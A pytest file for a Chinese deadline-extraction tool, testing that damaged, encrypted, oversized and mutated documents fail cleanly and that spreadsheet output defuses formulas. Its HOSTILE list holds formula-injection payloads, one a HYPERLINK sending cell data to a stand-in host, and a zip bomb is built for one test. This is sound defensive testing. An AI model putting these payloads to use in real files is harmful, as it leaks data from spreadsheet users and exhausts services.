"""Hostile files in and out (issue 15): each made here, each ending with one clear line, exit code 1,
and no file changed but the one asked for; formula cells flagged, never filled down; formulas defused."""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from pathlib import Path

import pytest

from deadline_cn import table
from deadline_cn.cli import main
from deadline_cn.documents import DocumentError, Limits
from deadline_cn.documents.write import defuse, write_csv, write_xlsx

openpyxl = pytest.importorskip("openpyxl")
Capture = pytest.CaptureFixture[str]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def refused(capsys: Capture, folder: Path, argv: list[str], why: str) -> str:
    """Run the CLI on a hostile input: exit 1, one line naming the file and ``why``, nothing written."""
    before = snapshot(folder)
    capsys.readouterr()
    assert main(argv) == 1
    captured = capsys.readouterr()
    lines = captured.err.strip().splitlines()
    assert len(lines) == 1, captured.err
    assert lines[0].startswith("deadline-cn: error: ") and why in lines[0], lines[0]
    assert "Traceback" not in captured.err and captured.out == ""
    assert snapshot(folder) == before
    return lines[0]


def plan_xlsx(path: Path, deadlines: list[str], tasks: list[str] | None = None) -> Path:
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["序号", "工作任务", "完成时限"])
    for i, text in enumerate(deadlines):
        ws.append([i + 1, (tasks or [f"任务{i + 1}" for i in range(len(deadlines))])[i], text])
    book.save(path)
    return path


# -- files in --------------------------------------------------------------------------------------------

def test_truncated_docx(tmp_path: Path, capsys: Capture) -> None:
    good = tmp_path / "good.xlsx"
    plan_xlsx(good, ["2017年6月底前"])
    bad = tmp_path / "plan.docx"
    bad.write_bytes(good.read_bytes()[:300])  # a download cut short
    good.unlink()
    refused(capsys, tmp_path, ["table", str(bad), "-o", str(tmp_path / "out.csv")], "plan.docx: damaged zip")


def test_docx_without_content_types(tmp_path: Path, capsys: Capture) -> None:
    bad = tmp_path / "plan.docx"
    with zipfile.ZipFile(bad, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    refused(capsys, tmp_path, ["table", str(bad)], "[Content_Types].xml is missing")
    with pytest.raises(DocumentError):
        table.read(bad)


def test_docx_whose_xml_is_broken(tmp_path: Path, capsys: Capture) -> None:
    bad = tmp_path / "plan.docx"
    with zipfile.ZipFile(bad, "w") as z:
        z.writestr("[Content_Types].xml", "<Types")
        z.writestr("word/document.xml", "<w:document")
    refused(capsys, tmp_path, ["table", str(bad)], "plan.docx: damaged .docx")


def test_encrypted_office_file(tmp_path: Path, capsys: Capture) -> None:
    # what Office writes for a password-protected .xlsx: an OLE2 file holding an "EncryptedPackage" stream
    bad = tmp_path / "plan.xlsx"
    bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le"))
    refused(capsys, tmp_path, ["table", str(bad)], "plan.xlsx: encrypted")


def test_unknown_binary_and_damaged_pdf(tmp_path: Path, capsys: Capture) -> None:
    blob = tmp_path / "plan.xlsx"
    blob.write_bytes(bytes(range(256)) * 4)
    refused(capsys, tmp_path, ["table", str(blob)], "plan.xlsx: not a document")
    pdf = tmp_path / "plan.pdf"
    pdf.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage")
    refused(capsys, tmp_path, ["table", str(pdf)], "plan.pdf: damaged PDF")


def test_encrypted_pdf(tmp_path: Path, capsys: Capture) -> None:
    pytest.importorskip("pdfplumber")
    pytest.importorskip("reportlab")
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    path = tmp_path / "plan.pdf"
    page = canvas.Canvas(str(path), encrypt=pdfencrypt.StandardEncryption("secret"))
    page.drawString(100, 700, "2017")
    page.save()
    refused(capsys, tmp_path, ["table", str(path)], "plan.pdf: encrypted")


def test_damaged_xls(tmp_path: Path, capsys: Capture) -> None:
    pytest.importorskip("python_calamine")
    bad = tmp_path / "plan.xls"
    bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600 + "Workbook".encode("utf-16-le"))
    refused(capsys, tmp_path, ["table", str(bad)], "plan.xls: damaged .xls")


def test_zip_bomb_is_refused_before_unpacking(tmp_path: Path, capsys: Capture) -> None:
    bomb = tmp_path / "bomb.xlsx"
    plan_xlsx(bomb, ["2017年6月底前"])
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/sharedStrings2.xml", b"<a>" + b"A" * 3_000_000 + b"</a>")  # 3 MB that pack to kB
    assert bomb.stat().st_size < 100_000
    refused(capsys, tmp_path, ["table", str(bomb), "--max-bytes", "1000000"], "over the limit of 1,000,000")
    with pytest.raises(DocumentError, match="max_bytes"):
        table.read(bomb, limits=Limits(max_bytes=1_000_000))
    assert len(table.read(bomb, limits=Limits(max_bytes=10_000_000))) == 1  # raised: read


def test_rows_over_the_cap(tmp_path: Path, capsys: Capture) -> None:
    src = tmp_path / "plan.csv"
    src.write_text("工作任务,完成时限\n" + "任务,2017年6月底前\n" * 50, encoding="utf-8")
    refused(capsys, tmp_path, ["table", str(src), "--max-rows", "20"], "51 rows, over the limit of 20")
    assert main(["table", str(src), "--max-rows", "100", "-q"]) == 0


def test_sheet_taller_than_the_cap_is_refused_before_reading(tmp_path: Path, capsys: Capture) -> None:
    path = plan_xlsx(tmp_path / "tall.xlsx", ["2017年6月底前"])
    book = openpyxl.load_workbook(path)
    book.active.cell(row=500_000, column=1).value = "x"  # one far cell makes a 500,000-row sheet
    book.save(path)
    refused(capsys, tmp_path, ["table", str(path)], "sheet 'Sheet' has 500,000 rows, over the limit of 100,000")


def test_html_spans_are_capped(tmp_path: Path) -> None:
    page = tmp_path / "p.html"
    page.write_text("<table><tr><td>工作任务</td><td>完成时限</td></tr><tr><td>甲</td><td>2017年6月底前</td>"
                    + '<td colspan="999999">x</td>' * 50 + '</tr><tr><td rowspan="99999999">乙</td></tr></table>',
                    encoding="utf-8")
    rows = table.read(page, ref="2017-01-09")
    assert [str(r.due) for r in rows][:1] == ["2017-06-30"] and len(rows[0].cells) == 1000


def test_csv_field_over_the_csv_limit(tmp_path: Path, capsys: Capture) -> None:
    src = tmp_path / "plan.csv"
    src.write_text('工作任务,完成时限\n"' + "长" * 200_000 + '",2017年\n', encoding="utf-8")
    refused(capsys, tmp_path, ["table", str(src)], "plan.csv: damaged CSV")


def test_doc_without_libreoffice_names_the_fix(tmp_path: Path, capsys: Capture,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "nothing-here"))
    monkeypatch.delenv("DEADLINE_CN_SOFFICE", raising=False)
    doc = tmp_path / "plan.docx"  # an old .doc saved with the new suffix
    doc.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "WordDocument".encode("utf-16-le"))
    line = refused(capsys, tmp_path, ["table", str(doc)], "needs LibreOffice (soffice)")
    assert "apt-get install libreoffice-writer-nogui" in line


def test_formula_without_cached_value_is_flagged_not_filled(tmp_path: Path) -> None:
    book = openpyxl.Workbook()  # openpyxl writes formulas without a computed value, as scripts do
    ws = book.active
    ws.append(["序号", "工作任务", "完成时限"])
    ws.append([1, "任务甲", "2017年6月底前"])
    ws.append([2, "任务乙", '=CONCAT("2017年","9月底前")'])
    ws.append([3, "=B2", "2017年12月底前"])
    book.save(tmp_path / "f.xlsx")
    rows = table.read(tmp_path / "f.xlsx", ref="2017-01-09")
    assert [r.source_row for r in rows] == [2, 3, 4]  # none vanished as a "section heading"
    assert rows[1].kind == "unresolved" and rows[1].fill is None and rows[1].due is None
    assert rows[1].flags[0] == "formula-without-value:完成时限"
    assert rows[2].flags == ("formula-without-value:工作任务",) and str(rows[2].due) == "2017-12-31"
    assert rows[0].flags == ()


FORMULA_PLAN = [["序号", "工作任务", "完成时限"], [1, "任务甲", "2017年6月底前"],
                [2, "任务乙", 'CONCATENATE("2017年","9月底前")'], [3, "B2", "2017年12月底前"],
                [4, "任务丁", "2017年6月底前"]]
FORMULAS = {(2, 2), (3, 1)}  # (row, column) of the formula cells above, 0-based


def formula_xls(path: Path) -> Path:
    """xlwt writes a formula with an empty result, as scripts do: calamine reads it as an empty cell."""
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("分解表")
    for r, row in enumerate(FORMULA_PLAN):
        for c, value in enumerate(row):
            ws.write(r, c, xlwt.Formula(str(value).replace(",", ";")) if (r, c) in FORMULAS else value)
    book.save(str(path))
    return path


def formula_ods(path: Path) -> Path:
    """odfpy writes a formula with no value (no office:value, no text), as a script does."""
    pytest.importorskip("odf")
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    book = OpenDocumentSpreadsheet()
    sheet = Table(name="分解表")
    for r, row in enumerate(FORMULA_PLAN):
        tr = TableRow()
        for c, value in enumerate(row):
            if (r, c) in FORMULAS:
                tr.addElement(TableCell(formula=f"of:={value.replace(',', ';')}"))
                continue
            cell = TableCell(valuetype="string")
            cell.addElement(P(text=str(value)))
            tr.addElement(cell)
        sheet.addElement(tr)
    book.spreadsheet.addElement(sheet)
    book.save(str(path))
    return path


@pytest.mark.parametrize("suffix", [".xls", ".et", ".ods"])
def test_formula_without_value_in_xls_and_ods_is_flagged_not_filled(suffix: str, tmp_path: Path,
                                                                   capsys: Capture) -> None:
    """calamine reads these formulas as empty cells; they are reported on their row as in .xlsx, never
    read as blank and filled from the row above."""
    pytest.importorskip("python_calamine")
    path = (formula_ods if suffix == ".ods" else formula_xls)(tmp_path / f"f{suffix}")
    rows = table.read(path, ref="2017-01-09")
    assert [r.source_row for r in rows] == [2, 3, 4, 5]
    assert rows[1].kind == "unresolved" and rows[1].fill is None and rows[1].due is None
    assert rows[1].flags[0] == "formula-without-value:完成时限" and rows[1].text.startswith("=")
    assert rows[2].flags == ("formula-without-value:工作任务",) and str(rows[2].due) == "2017-12-31"
    assert rows[2].cells["工作任务"].startswith("=") and rows[2].cells["工作任务"] != "任务甲"
    assert rows[0].flags == () and rows[3].flags == () and str(rows[3].due) == "2017-06-30"
    # the formula as the file holds it: OpenFormula text in .ods, compiled tokens written back in .xls
    separator = ";" if suffix == ".ods" else ","
    assert rows[1].text == f'=CONCATENATE("2017年"{separator}"9月底前")' and rows[2].cells["工作任务"] == "=B2"
    out = tmp_path / "ledger.csv"
    capsys.readouterr()
    assert main(["table", str(path), "--ref", "2017-01-09", "-o", str(out)]) == 0
    assert "2 with formulas that hold no value" in capsys.readouterr().err


def test_biff_walker_never_raises(tmp_path: Path) -> None:
    from deadline_cn.documents.biff import SHOWN, formula_cells

    good = formula_xls(tmp_path / "f.xls").read_bytes()
    assert formula_cells(tmp_path / "f.xls") == {"分解表": {(2, 2): 'CONCATENATE("2017年","9月底前")', (3, 1): "B2"}}
    for n, cut in enumerate((8, 100, 512, 600, len(good) // 2, len(good) - 10)):
        bad = tmp_path / f"cut{n}.xls"
        bad.write_bytes(good[:cut])
        assert isinstance(formula_cells(bad), dict)
    loop = bytearray(good)  # a FAT whose chain points at itself: the walk stops
    loop[0x30:0x34] = (0).to_bytes(4, "little")
    (tmp_path / "loop.xls").write_bytes(bytes(loop))
    assert isinstance(formula_cells(tmp_path / "loop.xls"), dict)
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("s")
    written = ['$A$1&"前"', 'IF(A1>2,"a","b")', "SUM(A1:A3)", "TODAY()", "-A1+2.5*3", "DATE(2017,6,30)",
               "(A1+1)%", "ISBLANK(A1)"]
    for r, formula in enumerate(written):
        ws.write(r, 1, xlwt.Formula(formula.replace(",", ";")))
    book.save(str(tmp_path / "g.xls"))
    back = formula_cells(tmp_path / "g.xls")["s"]
    assert [back[(r, 1)] for r in range(len(written))] == [*written[:-1], SHOWN]  # ISBLANK: not written back


def test_html_saved_as_xlsx_is_read(tmp_path: Path) -> None:
    page = tmp_path / "export.xlsx"  # what many government systems call an Excel export
    page.write_bytes("<html><body><table><tr><td>工作任务</td><td>完成时限</td></tr>"
                     "<tr><td>任务甲</td><td>2017年6月底前</td></tr></table></body></html>".encode("gb18030"))
    rows = table.read(page, ref="2017-01-09")
    assert [(r.cells["工作任务"], str(r.due)) for r in rows] == [("任务甲", "2017-06-30")]


# -- files out -------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+2", "-2+3", "@SUM(1)", "=1"]


def test_defuse_follows_owasp() -> None:
    assert [defuse(t) for t in ("=1", "+1", "-1", "@A", "\t=1", "\r=1")] == \
        ["'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1"]
    assert [defuse(t) for t in ("2017年", "", " =1", 3)] == ["2017年", "", " =1", 3]


def test_csv_cells_that_would_run_are_prefixed(tmp_path: Path) -> None:
    src = plan_xlsx(tmp_path / "p.xlsx", ["2017年6月底前"] * len(HOSTILE), tasks=HOSTILE)
    rows = table.read(src, ref="2017-01-09")
    out = io.StringIO()
    write_csv(rows, out)
    got = [r["工作任务"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert got == ["'" + t for t in HOSTILE]
    raw = io.StringIO()
    write_csv(rows, raw, safe=False)
    assert [r["工作任务"] for r in csv.DictReader(io.StringIO(raw.getvalue()))] == HOSTILE
    assert main(["table", str(src), "--raw-cells", "-q"]) == 0


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    src = plan_xlsx(tmp_path / "p.xlsx", ["2017年6月底前"] * len(HOSTILE), tasks=HOSTILE)
    write_xlsx(table.read(src, ref="2017-01-09"), tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no cell is stored as a formula
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    column = [c.value for c in ws["B"]][1:]
    assert column == HOSTILE and all(c.data_type == "s" for c in ws["B"][1:])


def test_output_never_replaces_the_input(tmp_path: Path, capsys: Capture) -> None:
    src = tmp_path / "plan.csv"
    src.write_text("工作任务,完成时限\n任务甲,2017年6月底前\n", encoding="utf-8")
    refused(capsys, tmp_path, ["table", str(src), "-o", str(src)], "is the input file")
    refused(capsys, tmp_path, ["table", str(src), "-o", str(src), "--force"], "is the input file")
    refused(capsys, tmp_path, ["table", str(src), "--ics", str(src), "--force"], "is the input file")


def test_output_in_a_missing_folder_or_a_folder_as_input(tmp_path: Path, capsys: Capture) -> None:
    src = tmp_path / "plan.csv"
    src.write_text("工作任务,完成时限\n任务甲,2017年6月底前\n", encoding="utf-8")
    refused(capsys, tmp_path, ["table", str(src), "-o", str(tmp_path / "no" / "x.csv")], "does not exist")
    refused(capsys, tmp_path, ["table", str(src), "--to", "csv", "-o", str(tmp_path)], "is a directory")
    (tmp_path / "sub").mkdir()
    refused(capsys, tmp_path, ["table", str(tmp_path / "sub")], "sub: not a file")


def test_existing_output_only_with_force(tmp_path: Path, capsys: Capture) -> None:
    src = tmp_path / "plan.csv"
    src.write_text("工作任务,完成时限\n任务甲,2017年6月底前\n", encoding="utf-8")
    out = tmp_path / "ledger.csv"
    out.write_text("keep me", encoding="utf-8")
    refused(capsys, tmp_path, ["table", str(src), "-o", str(out)], "ledger.csv: exists; give --force")
    assert main(["table", str(src), "-o", str(out), "--force", "-q"]) == 0
    assert "2017-06-30" in out.read_text(encoding="utf-8-sig")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ledger.csv", "plan.csv"]  # no temporary left
    assert out.stat().st_mode & 0o777 == src.stat().st_mode & 0o777  # not mkstemp's 0600
    refused(capsys, tmp_path, ["batch", str(src), "-o", str(src), "--force"], "is the input file")


def test_batch_goes_on_after_a_lone_surrogate(tmp_path: Path, capsys: Capture) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text('2017年6月底前\n{"text": "\\ud800年底前"}\n{"text": "x", "id": "\\udfff"}\n每月10日前\n',
                   encoding="utf-8")
    out = tmp_path / "out.jsonl"
    assert main(["batch", str(src), "--ref", "2017-01-09", "-o", str(out)]) == 1
    got = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [g["line"] for g in got] == [1, 2, 3, 4]
    assert "error" in got[1] and "surrogate" in got[1]["error"]
    assert "error" in got[2] and "surrogate" in got[2]["error"]
    assert got[3]["kind"] == "recurrence"
    assert "4 lines, 0 unresolved, 2 bad" in capsys.readouterr().err
    out.read_bytes().decode("utf-8")  # the output is valid UTF-8 throughout


def test_damaged_input_keeps_stdout_clean(tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch) -> None:
    bad = tmp_path / "plan.xlsx"
    bad.write_bytes(b"PK\x03\x04" + b"\x00" * 40)
    monkeypatch.setattr(sys, "argv", ["deadline-cn", "table", str(bad)])
    refused(capsys, tmp_path, ["table", str(bad)], "plan.xlsx: damaged zip")


def test_the_document_layer_imports_no_reader_until_used() -> None:
    code = ("import sys, deadline_cn, deadline_cn.table, deadline_cn.cli; "
            "print(sorted(m for m in ('lxml', 'pdfplumber', 'python_calamine', 'charset_normalizer', 'openpyxl', "
            "'docx', 'icalendar') if m in sys.modules))")
    import subprocess

    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                         cwd=Path(__file__).resolve().parent.parent)
    assert out.stdout.strip() == "[]"


def test_a_reader_panic_is_one_line(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """What the reader's child process does when calamine's Rust code panics: one DocumentError, and the panic's
    text kept off stderr (the child sends the message back; the parent prints one line)."""
    import os
    import types

    from deadline_cn.documents import office

    pytest.importorskip("python_calamine")

    class PanicException(BaseException):  # what pyo3 raises when calamine's Rust code panics
        pass

    class Book:
        @staticmethod
        def from_path(path: str) -> None:
            os.write(2, b"thread '<unnamed>' panicked at cfb.rs:305:41:\nstack backtrace:\n")
            raise PanicException("slice index starts at 16896 but ends at 16736")

    fake = types.SimpleNamespace(CalamineWorkbook=Book, PasswordError=type("PasswordError", (Exception,), {}))
    bad = tmp_path / "plan.xls"
    bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    capfd.readouterr()
    with pytest.raises(DocumentError) as exc, office._quiet_fd2():
        office._calamine_sheets(fake, bad, None, ".xls", 1000)
    assert str(exc.value) == "plan.xls: damaged .xls (PanicException: slice index starts at 16896 but ends at 16736)"
    assert capfd.readouterr().err == ""


def test_mutated_files_end_in_one_documented_error(tmp_path: Path) -> None:
    """Bytes flipped and files cut short in real files of each kind: never another exception type."""
    _read_mutations(tmp_path, 16)


@pytest.mark.slow
def test_many_mutated_files_end_in_one_documented_error(tmp_path: Path) -> None:
    _read_mutations(tmp_path, 80)


def _read_mutations(tmp_path: Path, count: int) -> None:
    import random

    pytest.importorskip("python_calamine")
    sources = [plan_xlsx(tmp_path / "a.xlsx", ["2017年6月底前"] * 30)]
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("s")
    for r in range(60):
        sheet.write(r, 0, f"任务{r}")
        sheet.write(r, 1, "2017年6月底前")
    book.save(str(tmp_path / "b.xls"))
    sources.append(tmp_path / "b.xls")
    rng = random.Random(13)
    for n in range(count):
        data = bytearray(rng.choice(sources).read_bytes())
        for _ in range(rng.randrange(1, 30)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        if n % 3 == 0:
            data = data[: rng.randrange(8, len(data))]
        path = tmp_path / f"m{n}.bin"
        path.write_bytes(bytes(data))
        try:
            table.read(path)
        except DocumentError:
            pass


def test_an_xls_that_aborts_the_reader_is_one_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """tests/data/calamine-aborts.xls: an .xls made by xlwt with bytes flipped (found by mutation), on which
    python-calamine asks for 90 GB and the Rust runtime aborts its process. It is read in a child process,
    so this process lives on and says the file is damaged."""
    pytest.importorskip("python_calamine")
    path = Path(__file__).parent / "data" / "calamine-aborts.xls"
    with pytest.raises(DocumentError, match="damaged"):
        table.read(path)
    assert main(["table", str(path)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("deadline-cn: error:") and "calamine-aborts.xls" in err[0]
